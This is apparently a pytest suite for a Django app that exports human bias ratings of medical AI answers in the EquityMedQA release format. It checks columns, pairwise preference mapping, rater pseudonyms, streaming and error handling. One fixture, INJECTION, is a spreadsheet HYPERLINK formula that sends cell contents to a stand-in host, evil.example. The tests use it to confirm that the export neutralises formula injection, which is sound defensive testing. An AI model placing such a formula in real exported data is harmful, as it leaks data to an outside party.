"""Ratings exports in the EquityMedQA release format (shared/spec/ratings-export.md)."""

import csv
import inspect
from dataclasses import dataclass

import pandas as pd
import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from raters.models import RaterProfile
from studies import release
from studies.exports import (
    export_rows,
    pairwise_sources,
    stream_csv,
    write_csv_files,
    write_workbook,
)
from studies.models import Assignment, Rating
from studies.services import submit_rating
from tests.factories import (
    AnswerFactory,
    AnswerSourceFactory,
    AssignmentFactory,
    CounterfactualItemFactory,
    CounterfactualPairFactory,
    DatasetFactory,
    IndependentItemFactory,
    OnboardedRaterFactory,
    PairwiseItemFactory,
    QuestionFactory,
    RaterBackgroundFactory,
    StudyFactory,
    default_rubric_version,
)

pytestmark = pytest.mark.django_db

DIMENSIONS = [
    "inaccuracy_for_some_axes",
    "not_inclusive_for_some_axes",
    "stereotypical_language_characterization",
    "omits_systemic_explanation",
    "failure_to_challenge",
    "potential_for_disproportionate",
    "other_bias",
]
CF_DIMENSIONS = [d if d != "omits_systemic_explanation" else "omits_systemic_explanations" for d in DIMENSIONS]
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@dataclass
class Raters:
    physician: RaterProfile
    expert: RaterProfile
    consumer: RaterProfile


def rate(item, rater, values, swap=False, seconds=30.0) -> Rating:
    assignment = AssignmentFactory(item=item, rater=rater, swap_answers=swap)
    return submit_rating(assignment=assignment, values=values, active_seconds=seconds)


def independent(bias, dimensions=(), other_text="", comment=""):
    return {"bias_presence": bias, "dimensions": list(dimensions), "other_text": other_text, "comment": comment}


def pairwise(preference, dimensions=(), other_text="", comment=""):
    return {"preference": preference, "dimensions": list(dimensions), "other_text": other_text, "comment": comment}


def counterfactual(ideal, how, bias, dimensions=(), ideal_comment="", other_text="", comment=""):
    return {
        "ideal_answers_differ": ideal,
        "ideal_comment": ideal_comment,
        "answers_differ_how": how,
        "bias_presence": bias,
        "dimensions": list(dimensions),
        "other_text": other_text,
        "comment": comment,
    }


def build_release() -> Raters:
    """A small study of each kind, rated by a physician, a health equity expert and a consumer."""
    raters = Raters(*(OnboardedRaterFactory(pool=p).rater_profile for p in ("physician", "equity_expert", "consumer")))
    RaterBackgroundFactory(profile=raters.physician, years_in_practice=12, specialty="Internal medicine", country="KE")
    RaterBackgroundFactory(
        profile=raters.consumer, age_group="25-34", gender="Woman", race_ethnicity=["Asian", "White"]
    )
    omaq = DatasetFactory(name="Open-ended Medical Adversarial Queries (OMAQ)")
    q1, q2 = QuestionFactory(dataset=omaq, external_id="omaq-1"), QuestionFactory(dataset=omaq, external_id="omaq-2")
    med_palm_2 = AnswerSourceFactory(name="Med-PaLM 2")

    study = StudyFactory(kind="independent", name="Independent study")
    item_1 = IndependentItemFactory(study=study, answer=AnswerFactory(question=q1, source=med_palm_2))
    item_2 = IndependentItemFactory(study=study, answer=AnswerFactory(question=q2, source=med_palm_2))
    expected = {"bias_presence": "severe_bias"}
    check = IndependentItemFactory(study=study, is_attention_check=True, expected_values=expected)
    values = independent("minor_bias", ["failure_to_challenge", "other_bias"], "Assumes one diet", INJECTION)
    rate(item_1, raters.physician, values, seconds=42.5)
    rate(item_1, raters.expert, independent("no_bias"))
    values = independent("severe_bias", ["inaccuracy_for_some_axes", "omits_systemic_explanation"])
    rate(item_2, raters.consumer, values)
    first = rate(item_2, raters.expert, independent("no_bias"))
    # A revision: only the current rating is exported.
    values = independent("minor_bias", ["not_inclusive_for_some_axes"])
    submit_rating(assignment=first.assignment, values=values, active_seconds=3.25)
    rate(check, raters.expert, independent("severe_bias", ["stereotypical_language_characterization"]))

    study = StudyFactory(kind="pairwise", name="Pairwise study")
    model_a, model_c = AnswerSourceFactory(name="Model A"), AnswerSourceFactory(name="Model C")
    pair_ab = PairwiseItemFactory(study=study, question=q1, answer_1__source=model_a)  # answer 2: "Model B"
    pair_ac = PairwiseItemFactory(study=study, question=q2, answer_1__source=model_a, answer_2__source=model_c)
    # Shown swapped, Model B is Answer 1: choosing Answer 1 says Model B shows more bias.
    rate(pair_ab, raters.physician, pairwise("answer_1", ["stereotypical_language_characterization"]), swap=True)
    rate(pair_ab, raters.expert, pairwise("tie", comment="-same"))
    rate(pair_ac, raters.physician, pairwise("answer_2", ["potential_for_disproportionate"]))
    rate(pair_ac, raters.consumer, pairwise("answer_2", ["other_bias"], other_text="@mentions race"), swap=True)

    study = StudyFactory(kind="counterfactual", name="Counterfactual study")
    cc = DatasetFactory(name="Counterfactual Context - Manual (CC-Manual)")
    pair = CounterfactualPairFactory(dataset=cc, question_1__external_id="cc-1a", question_2__external_id="cc-1b")
    item = CounterfactualItemFactory(study=study, pair=pair, answer_1__source=med_palm_2, answer_2__source=med_palm_2)
    values = counterfactual("unsure", "content", "yes", ["omits_systemic_explanation"], "+context matters")
    rate(item, raters.physician, values)
    rate(item, raters.expert, counterfactual("no", "similar", "no"))
    return raters


def read(path) -> pd.DataFrame:
    return pd.read_csv(path)


def one(frame: pd.DataFrame, **where) -> pd.Series:
    mask = pd.Series(True, index=frame.index)
    for column, value in where.items():
        mask &= frame[column] == value
    assert mask.sum() == 1, where
    return frame[mask].iloc[0]


def marked(row: pd.Series, columns=DIMENSIONS) -> list[str]:
    return [column for column in columns if row[column] is True or row[column] == True]  # noqa: E712


def test_independent_csv_loads_with_pandas_with_the_spec_columns_and_values(tmp_path):
    raters = build_release()
    write_csv_files(tmp_path)

    frame = read(tmp_path / "ratings_independent.csv")

    required = ["question_id", "dataset", "rater_type", "rater_id", "bias_presence", *DIMENSIONS]
    assert list(frame.columns[: len(required)]) == required
    assert list(frame.columns[len(required) :]) == release.EXTRA["independent"]
    assert len(frame) == 5
    assert all(frame[column].dtype == bool for column in DIMENSIONS)
    row = one(frame, question_id="omaq-1", rater_id=raters.physician.pseudonym)
    assert (row["dataset"], row["rater_type"], row["bias_presence"]) == (
        "Open-ended Medical Adversarial Queries (OMAQ)", "Physician", "Minor bias")  # fmt: skip
    assert marked(row) == ["failure_to_challenge", "other_bias"]
    assert (row["other_text"], row["comment"]) == ("Assumes one diet", "'" + INJECTION)
    assert (row["rubric_version"], row["study"], row["answer_source"]) == (
        "EquityMedQA independent v1", "Independent study", "Med-PaLM-2")  # fmt: skip
    assert (row["active_seconds"], row["revision"]) == (42.5, 1)
    assert row["submitted_at"].endswith("+00:00")
    background = row[["rater_years_in_practice", "rater_specialty", "rater_country"]].tolist()
    assert background == [12, "Internal medicine", "KE"]
    consumer = one(frame, rater_id=raters.consumer.pseudonym)
    assert (consumer["rater_type"], consumer["bias_presence"]) == ("Consumer", "Severe bias")
    assert marked(consumer) == ["inaccuracy_for_some_axes", "omits_systemic_explanation"]
    assert (consumer["rater_age_group"], consumer["rater_race_ethnicity"]) == ("25-34", "Asian; White")
    revised = one(frame, question_id="omaq-2", rater_id=raters.expert.pseudonym)
    assert (revised["rater_type"], revised["bias_presence"], revised["revision"]) == (
        "Health equity expert", "Minor bias", 2)  # fmt: skip
    assert marked(revised) == ["not_inclusive_for_some_axes"]
    assert one(frame, question_id="omaq-1", rater_id=raters.expert.pseudonym)["bias_presence"] == "No bias"
    assert frame["attention_check_passed"].dropna().tolist() == [True]
    assert set(frame["bias_presence"]) <= {"No bias", "Minor bias", "Severe bias"}


def test_pairwise_csv_states_the_preference_per_source_whatever_the_display_order(tmp_path):
    raters = build_release()
    write_csv_files(tmp_path)

    frame = read(tmp_path / "ratings_pairwise.csv")

    sources = ["Model-A_answer_more_bias", "Model-B_answer_more_bias", "Model-C_answer_more_bias"]
    required = ["question_id", "dataset", "rater_type", "rater_id", *sources, *DIMENSIONS]
    assert list(frame.columns) == [*required, *release.EXTRA["pairwise"]]

    def more_bias(row):
        return [None if pd.isna(row[column]) else bool(row[column]) for column in sources]

    swapped = one(frame, question_id="omaq-1", rater_id=raters.physician.pseudonym)
    assert more_bias(swapped) == [False, True, None]  # Answer 1 was Model B
    assert (swapped["answer_1_source"], swapped["answer_2_source"]) == ("Model-B", "Model-A")
    assert marked(swapped) == ["stereotypical_language_characterization"]
    tie = one(frame, question_id="omaq-1", rater_id=raters.expert.pseudonym)
    assert more_bias(tie) == [False, False, None]
    assert marked(tie) == []
    assert tie["comment"] == "'-same"
    plain = one(frame, question_id="omaq-2", rater_id=raters.physician.pseudonym)
    assert more_bias(plain) == [False, None, True]
    assert marked(plain) == ["potential_for_disproportionate"]
    swapped_again = one(frame, question_id="omaq-2", rater_id=raters.consumer.pseudonym)
    assert more_bias(swapped_again) == [True, None, False]  # Answer 2 was Model A
    assert (swapped_again["answer_1_source"], swapped_again["other_text"]) == ("Model-C", "'@mentions race")


def test_pairwise_dimensions_are_true_only_when_a_preference_was_given(tmp_path):
    item = PairwiseItemFactory()
    rate(item, OnboardedRaterFactory().rater_profile, pairwise("tie", ["failure_to_challenge"]))
    write_csv_files(tmp_path)

    frame = read(tmp_path / "ratings_pairwise.csv")

    assert frame.loc[0, ["Model-A_answer_more_bias", "Model-B_answer_more_bias", *DIMENSIONS]].tolist() == [False] * 9


def test_counterfactual_csv_uses_the_plural_column_booleans_and_the_canonical_texts(tmp_path):
    raters = build_release()
    write_csv_files(tmp_path)

    frame = read(tmp_path / "ratings_counterfactual.csv")

    required = ["question_1_id", "question_2_id", "dataset", "rater_type", "rater_id", "bias_presence",
                *CF_DIMENSIONS, "ideal_answers_differ", "answers_differ_how"]  # fmt: skip
    assert list(frame.columns) == [*required, *release.EXTRA["counterfactual"]]
    assert frame["bias_presence"].dtype == bool
    biased = one(frame, rater_id=raters.physician.pseudonym)
    assert (biased["question_1_id"], biased["question_2_id"], biased["dataset"]) == (
        "cc-1a", "cc-1b", "Counterfactual Context - Manual (CC-Manual)")  # fmt: skip
    assert biased["bias_presence"] == True  # noqa: E712
    assert marked(biased, CF_DIMENSIONS) == ["omits_systemic_explanations"]
    assert (biased["ideal_answers_differ"], biased["answers_differ_how"]) == (
        "Unsure", "Differ in content but not in syntax or structure")  # fmt: skip
    assert biased["ideal_comment"] == "'+context matters"
    unbiased = one(frame, rater_id=raters.expert.pseudonym)
    assert unbiased["bias_presence"] == False  # noqa: E712
    assert (unbiased["ideal_answers_differ"], unbiased["answers_differ_how"]) == (
        "No", "Identical or similar, with only minor differences in syntax or structure")  # fmt: skip


def test_text_cells_that_spreadsheets_would_run_get_a_leading_apostrophe(tmp_path):
    build_release()
    write_csv_files(tmp_path)

    with (tmp_path / "ratings_independent.csv").open(newline="") as handle:
        comments = [row["comment"] for row in csv.DictReader(handle)]

    assert "'" + INJECTION in comments
    assert not any(comment.startswith(release.FORMULA_TRIGGERS) for comment in comments)


@pytest.mark.parametrize(
    "text, protected",
    [("=1+1", "'=1+1"), ("+44", "'+44"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("'=x", "''=x"), ("'tis", "'tis"), ("plain", "plain"), ("", ""), ("'", "'")],
)  # fmt: skip
def test_formula_protection_is_undone_exactly(text, protected):
    assert release.protect(text) == protected
    assert release.unprotect(protected) == text


def test_all_three_files_are_written_header_only_when_there_are_no_ratings(tmp_path):
    counts = write_csv_files(tmp_path)

    assert counts == {name: 0 for name in release.FILENAMES.values()}
    assert (tmp_path / "ratings_independent.csv").read_text().splitlines() == [",".join(release.header("independent"))]
    assert read(tmp_path / "ratings_counterfactual.csv").empty


def test_the_workbook_has_the_three_sheets_with_the_same_rows_as_the_csv_files(tmp_path):
    build_release()
    write_csv_files(tmp_path)
    write_workbook(tmp_path / "equitymedqa_ratings.xlsx")

    workbook = load_workbook(tmp_path / "equitymedqa_ratings.xlsx", read_only=True)
    assert workbook.sheetnames == ["Independent ratings", "Paired ratings", "Counterfactual Paired ratings"]
    cells = next(workbook["Independent ratings"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert cells[5] is False  # booleans are typed cells, as in the published workbook
    for kind, title in release.SHEETS.items():
        sheet = pd.read_excel(tmp_path / "equitymedqa_ratings.xlsx", sheet_name=title)
        # Whole-number seconds come back from the workbook as integers: compare values, not dtypes.
        pd.testing.assert_frame_equal(sheet, read(tmp_path / release.FILENAMES[kind]), check_dtype=False)


def test_the_export_never_names_raters_by_username_or_email(tmp_path):
    build_release()
    write_csv_files(tmp_path)
    text = "".join(path.read_text() for path in tmp_path.glob("*.csv"))

    for profile in RaterProfile.objects.select_related("user"):
        assert profile.pseudonym in text
        assert profile.user.username not in text
        assert profile.user.email not in text


def test_a_study_can_be_exported_alone(tmp_path):
    build_release()
    other = PairwiseItemFactory(study=StudyFactory(kind="pairwise", name="Other"), answer_1__source__name="Model X",
                                answer_2__source__name="Model Y")  # fmt: skip
    rate(other, OnboardedRaterFactory().rater_profile, pairwise("answer_1", ["failure_to_challenge"]))

    counts = write_csv_files(tmp_path, study=other.study)

    assert counts == {"ratings_independent.csv": 0, "ratings_pairwise.csv": 1, "ratings_counterfactual.csv": 0}
    assert list(read(tmp_path / "ratings_pairwise.csv").columns[4:6]) == [
        "Model-X_answer_more_bias", "Model-Y_answer_more_bias"]  # fmt: skip


def test_the_pairwise_source_columns_come_from_one_query(django_assert_num_queries):
    build_release()
    with django_assert_num_queries(1):
        assert pairwise_sources() == ["Model-A", "Model-B", "Model-C"]


@pytest.mark.parametrize("kind, queries", [("independent", 2), ("pairwise", 3), ("counterfactual", 2)])
def test_each_export_reads_its_ratings_in_one_query(kind, queries, django_assert_num_queries):
    build_release()
    # The ratings, the factors of their questions' levels, and (pairwise) the source columns: no query per row.
    with django_assert_num_queries(queries):
        assert len(list(export_rows(kind))) > 1


def test_withdrawn_assignments_are_not_exported():
    build_release()
    Assignment.objects.filter(item__study__name="Counterfactual study").update(status=Assignment.Status.WITHDRAWN)

    assert len(list(export_rows("counterfactual"))) == 1


def test_exports_stream_rows_instead_of_building_the_file(django_assert_num_queries, tmp_path):
    study = StudyFactory(kind="independent")
    items = IndependentItemFactory.create_batch(60, study=study)
    raters = [OnboardedRaterFactory().rater_profile for _ in range(50)]
    assignments = Assignment.objects.bulk_create(
        Assignment(item=item, rater=rater, status=Assignment.Status.SUBMITTED) for item in items for rater in raters
    )
    version, values = default_rubric_version("independent"), independent("minor_bias", ["failure_to_challenge"])
    Rating.objects.bulk_create(
        Rating(assignment=a, rubric_version=version, values=values, active_seconds=5, wall_seconds=9)
        for a in assignments
    )

    with django_assert_num_queries(0):
        rows = export_rows("independent")  # a generator: nothing is read until rows are asked for
    assert inspect.isgenerator(rows)
    assert next(rows) == release.header("independent")
    assert sum(1 for _ in rows) == 3000
    chunks = stream_csv(export_rows("independent"))
    assert inspect.isgenerator(chunks)
    with (tmp_path / "ratings_independent.csv").open("wb") as out:
        sizes = [out.write(chunk) for chunk in chunks]
    assert len(sizes) > 5 and max(sizes) < 70 * 1024  # written out piece by piece
    assert len(read(tmp_path / "ratings_independent.csv")) == 3000


def test_the_download_response_streams_the_csv_with_a_filename(tmp_path):
    from studies.exports import csv_download_response

    build_release()
    study = Rating.objects.filter(assignment__item__study__name="Pairwise study").first().assignment.item.study
    write_csv_files(tmp_path, study=study)

    response = csv_download_response("pairwise", study)

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="pairwise-study-ratings_pairwise.csv"'
    assert b"".join(response.streaming_content) == (tmp_path / "ratings_pairwise.csv").read_bytes()


def test_the_export_command_writes_csv_files_or_the_workbook(tmp_path):
    build_release()

    call_command("export_ratings", "--out", str(tmp_path / "csv"))
    call_command("export_ratings", "--out", str(tmp_path / "xlsx"), "--format", "xlsx")

    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == sorted(release.FILENAMES.values())
    assert [p.name for p in (tmp_path / "xlsx").iterdir()] == ["equitymedqa_ratings.xlsx"]


def clashing_pairwise_study():
    """Sources created before export names had to be unique: 'Src X' and 'Src-X' share a column."""
    item = PairwiseItemFactory(answer_1__source__name="Src X", answer_2__source__name="Src-X")
    rate(item, OnboardedRaterFactory().rater_profile, pairwise("tie"))
    return item.study


def test_sources_sharing_an_export_column_stop_the_export_before_the_first_row():
    from studies.exports import ExportError

    study = clashing_pairwise_study()

    with pytest.raises(ExportError, match="'Src X' and 'Src-X' would share the column 'Src-X_answer_more_bias'"):
        export_rows("pairwise", study)  # not on the first row read: a download must never start and then break


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_failed_export_command_leaves_no_files_behind(tmp_path, file_format):
    from django.core.management.base import CommandError

    build_release()  # the independent file would come first
    clashing_pairwise_study()

    with pytest.raises(CommandError, match="would share the column"):
        call_command("export_ratings", "--out", str(tmp_path), "--format", file_format)

    assert list(tmp_path.iterdir()) == []


def test_an_export_failing_midway_keeps_the_earlier_complete_files_and_no_partial_ones(tmp_path, monkeypatch):
    from studies import exports

    build_release()
    write_csv_files(tmp_path)
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    rate(IndependentItemFactory(), OnboardedRaterFactory().rater_profile, independent("no_bias"))

    def broken_rows(study=None):
        yield release.header("counterfactual")
        raise OSError("disk full")

    monkeypatch.setitem(exports.ROWS, "counterfactual", broken_rows)
    with pytest.raises(OSError, match="disk full"):
        write_csv_files(tmp_path)
    with pytest.raises(OSError, match="disk full"):
        write_workbook(tmp_path / release.WORKBOOK)

    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_the_export_pages_say_why_an_export_cannot_be_made(client, coordinator):
    study = clashing_pairwise_study()
    client.force_login(coordinator)

    for name in ("coordination:export_csv", "coordination:export_workbook"):
        response = client.get(reverse(name, args=[study.pk]), follow=True)

        assert response.redirect_chain == [(reverse("coordination:dashboard", args=[study.pk]), 302)]
        assert "The export was not made: The answer sources" in response.content.decode()


def test_questions_with_levels_add_one_column_per_factor_after_all_of_todays_columns():
    study = StudyFactory(kind="independent")
    base = QuestionFactory(external_id="q-base")
    variant = QuestionFactory(dataset=base.dataset, base=base, external_id="q-recency", levels={"bias": "recency"})
    other = QuestionFactory(dataset=base.dataset, base=base, external_id="q-both",
                            levels={"bias": "frequency", "mitigation": "education"})  # fmt: skip
    rater = OnboardedRaterFactory().rater_profile
    for question in (base, variant, other):
        rate(
            IndependentItemFactory(study=study, answer=AnswerFactory(question=question)), rater, independent("no_bias")
        )

    header, *rows = list(export_rows("independent"))

    assert header == [*release.header("independent"), "level_bias", "level_mitigation"]
    assert {row[0]: row[-2:] for row in rows} == {
        "q-base": ["none", "none"],  # a factor a question lacks is at its reference level
        "q-recency": ["recency", "none"],
        "q-both": ["frequency", "education"],
    }


def test_a_counterfactual_row_gives_each_questions_levels():
    pair = CounterfactualPairFactory(question_1__levels={"sex": "female"}, question_2__levels={"sex": "male"})
    item = CounterfactualItemFactory(pair=pair)
    rate(item, OnboardedRaterFactory().rater_profile, counterfactual("yes", "content", "no"))

    header, row = list(export_rows("counterfactual"))

    assert header[-2:] == ["question_1_level_sex", "question_2_level_sex"]
    assert row[-2:] == ["female", "male"]
